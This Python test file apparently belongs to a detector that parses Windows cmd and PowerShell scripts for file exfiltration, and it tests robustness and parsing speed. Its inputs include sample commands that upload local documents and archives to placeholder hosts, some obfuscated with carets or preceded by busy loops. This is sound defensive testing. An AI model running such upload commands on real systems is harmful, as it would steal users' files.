"""The readers of Windows' shells on any input: they never fail, and what they do is bounded and linear."""

import time
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exfilwatch.commands.command import LONGEST, MOST_WORK, Command, Undoing
from exfilwatch.commands.shells import cmd, powershell

Reader = Callable[[str, Undoing], list[Command]]

POWERSHELL = r"""
' " ` $ $( ( ) { } @{ @( [ ] :: . -join -f + , .. | & && ; iex % $_ $a = += if foreach ($x in 1,2) [char] 65 0x41
[char[]] 'a' "b" # <# #> > 2>&1 -x -x: --% [Convert]::FromBase64String( .Replace( -replace -split [-1..-3] function
switch try catch param( return $env:x ${a} @a * ! -not new-object 99999 -bxor \ / ++ ’ for($i=0;$i-lt9;$i+=1)
"""
CMD = r"""
" ^ % %a% %a:~1,2% %a:x=y% !a! & && || | ( ) > >> < 2>&1 @ rem :: ; = , \ a %COMSPEC:~0,1% %%f 1 - * / :~ else x=!x!y
"""
CMD_PHRASES = [
    *("set a=b", "set /a x=1+", "set /p x=", "for %a in (", "for /f %a in ('", "')", " do ", "if a==b ", "if exist x "),
    *("for /l %i in (1,1,9)", "call ", "start ", "echo x", " ", "\n", "\ud800"),
]
AT_LENGTH = [
    *[
        (powershell.commands, each)
        for each in ("(", '"$(', "$a+", "@{a=", "{", "a|", '$a="$a$a";', '@"\n', "[a]", "'a'+")
    ],
    *[
        (powershell.commands, each)
        for each in ("<#", "1..4000|%{", "iex 'iex \"iex 1\"';", "function ", "'a'-replace'a','aaaa'")
    ],
    *[
        (cmd.commands, each)
        for each in ("(", "^", "%", "!a", "a&", "a|", "set a=!a!!a!x&", "if a==a ", '"a" ', "echo x>a&")
    ],
    *[
        (cmd.commands, each)
        for each in ("for %a in (b) do ", "for /l %a in (1,1,2000) do set b=!b!!b!&", "call ", "%a:b=")
    ],
]


def scripts(pieces: list[str]) -> st.SearchStrategy[str]:
    """Any text, and texts that are put together of pieces."""
    several = st.lists(st.sampled_from(pieces), max_size=60)
    return st.one_of(st.text(), several.map("".join), several.map(" ".join))


@given(scripts([*POWERSHELL.split(), " ", "\n", '@"\n', '\n"@', "\ud800"]))
@settings(deadline=None, max_examples=100)
def test_any_powershell_is_read(script: str) -> None:
    undoing = Undoing()
    assert isinstance(powershell.commands(script, undoing), list)
    assert isinstance(powershell.script_of(script, undoing), str)
    assert 0 <= undoing.bounds.left <= LONGEST


@given(scripts([*CMD.split(), *CMD_PHRASES]))
@settings(deadline=None, max_examples=100)
def test_any_cmd_is_read(script: str) -> None:
    undoing = Undoing()
    assert isinstance(cmd.commands(script, undoing), list)
    assert isinstance(cmd.script_of(script), str)
    assert 0 <= undoing.bounds.left <= LONGEST


def seconds(read: Reader, script: str) -> float:
    """Processor time of the fastest of a few readings."""
    times: list[float] = []
    for _ in range(4):
        start = time.process_time()
        read(script, Undoing())
        times.append(time.process_time() - start)
    return min(times)


def loops(count: int) -> float:
    """Processor time of a plain loop, which tells how fast this machine is just now."""
    times: list[float] = []
    for _ in range(10):
        start = time.process_time()
        total = 0
        for number in range(count):
            total += number
        times.append(time.process_time() - start)
    return min(times)


@pytest.mark.parametrize(("read", "piece"), AT_LENGTH)
def test_the_longest_scripts_take_little_time(read: Reader, piece: str) -> None:
    script = (piece * (32_000 // len(piece) + 1))[:32_000]
    assert seconds(read, script) < 250 * loops(10_000)  # about 60 ms where the loop takes 240 microseconds


@pytest.mark.parametrize(("read", "piece"), AT_LENGTH)
def test_twice_the_script_takes_at_most_about_twice_the_time(read: Reader, piece: str) -> None:
    half, whole = ((piece * (size // len(piece) + 1))[:size] for size in (8_000, 16_000))
    assert seconds(read, whole) < 3.5 * seconds(read, half) + 8 * loops(10_000)


@pytest.mark.parametrize(
    ("read", "script", "most"),
    [
        (
            cmd.commands,
            r'curl.exe -k -F "file=@C:\Users\alice\a b.docx" https://files.example.com/upload > NUL 2>&1 & ',
            2,
        ),
        (cmd.commands, r"c^u^r^l -T C:\a.zip h^t^t^p^s://files.example.com/upload & ", 4),
        (powershell.commands, r"Copy-Item -Path C:\Users\alice\Documents\*.docx -Destination \\fs01\alice -Force; ", 3),
        (
            powershell.commands,
            r"$url = 'https://files.example.com/'; Invoke-RestMethod -Uri $url -InFile C:\a.zip; ",
            4,
        ),
        (powershell.commands, "'abcd'+", 3),
    ],
)
def test_a_line_of_four_kilobytes_is_quick(read: Reader, script: str, most: int) -> None:
    """`most`: in loops of 10,000 additions, of which one takes about 240 microseconds."""
    assert seconds(read, (script * 200)[:4096]) < most * loops(10_000)


def test_loops_leave_work_for_what_follows_them() -> None:
    undoing = Undoing()
    script = "$s=0..255;$j=0;0..4000|%{$j=($j+$s[$_%256])%256;$s[$j]};curl.exe -T C:\\a.zip http://h/"
    assert powershell.commands(script, undoing)[-1].words == ["curl.exe", "-T", "C:\\a.zip", "http://h/"]
    assert undoing.bounds.work > -MOST_WORK // 10
